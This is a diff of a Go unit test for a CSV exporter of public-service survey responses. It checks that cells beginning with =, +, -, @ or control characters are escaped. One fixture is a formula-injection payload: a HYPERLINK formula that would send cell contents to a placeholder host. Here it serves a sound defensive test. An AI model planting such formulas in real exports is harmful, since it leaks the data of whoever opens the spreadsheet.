@@ -20,11 +20,12 @@ func TestAppendCSV(t *testing.T) {
 		Scores:       [9]int{4, 3, 0, 1, 2, 3, 4, 4, 4},
 		JenisKelamin: "P", Usia: age(34), Pendidikan: "D1-D3",
 		Perbaikan: `=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")`, Saran: "-antrean lama, +tambah loket",
+		Lainnya: "asal_info: Dari tetangga\nkunjungan: 2",
 	}
 	got := report.AppendCSV([]string{"x"}, row, jakarta)
 	want := []string{"x", "2026-01-05T09:30:00+07:00", "EXA", "'@Samsat", "Pembayaran PKB", "P", "34", "D1-D3", "",
 		"4", "3", "", "1", "2", "3", "4", "4", "4",
-		`'=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")`, "'-antrean lama, +tambah loket"}
+		`'=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")`, "'-antrean lama, +tambah loket", "asal_info: Dari tetangga\nkunjungan: 2"}
 	if !slices.Equal(got, want) {
 		t.Errorf("got  %q\nwant %q", got, want)
 	}
@@ -40,9 +41,10 @@ func TestAppendCSV(t *testing.T) {
 			t.Errorf("%s exported as %q, want %q", tt.name, f[5], tt.want)
 		}
 	}
+	saran := slices.Index(report.CSVHeader, "saran")
 	for _, s := range []string{"\tx", "\rx", "+62812"} {
-		if f := report.AppendCSV(nil, storage.ResponseRow{Saran: s}, jakarta); f[len(f)-1] != "'"+s {
-			t.Errorf("saran %q exported as %q", s, f[len(f)-1])
+		if f := report.AppendCSV(nil, storage.ResponseRow{Saran: s}, jakarta); f[saran] != "'"+s {
+			t.Errorf("saran %q exported as %q", s, f[saran])
 		}
 	}
 }
